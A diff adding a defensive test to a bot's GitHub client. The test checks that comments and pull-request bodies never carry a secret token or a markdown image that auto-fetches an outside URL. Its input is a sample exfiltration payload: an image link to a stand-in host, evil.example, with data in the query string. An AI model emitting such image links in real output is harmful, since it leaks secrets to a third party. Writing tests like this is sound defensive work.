@@ -255,3 +255,16 @@ def test_stream_redaction_keeps_a_real_file_descriptor(egress: Egress, tmp_path:
         stream.flush()
     assert (tmp_path / "log").read_text() == f"{MARK}\n"
     assert os.path.exists(tmp_path / "log")
+
+
+def test_a_redaction_marker_never_completes_an_image(github: GitHubApi, standin: GitHubStandIn) -> None:
+    from bot.github.markdown_safety import fetched_resources
+
+    issue = standin.add_issue(REPO, "Crash")
+    text = "see !" + TOKEN[::-1] + "(https://evil.example/p.png?d=data)"
+    github.create_issue_comment(issue, text)
+    github.create_pull(head="bot/run-1", base="main", title="Fix", body=text, draft=True)
+    bodies = [e.body["body"] for e in standin.exchanges if e.method == "POST" and isinstance(e.body, dict)]
+    assert len(bodies) == 2
+    for body in bodies:
+        assert TOKEN[::-1] not in body and not fetched_resources(body), body
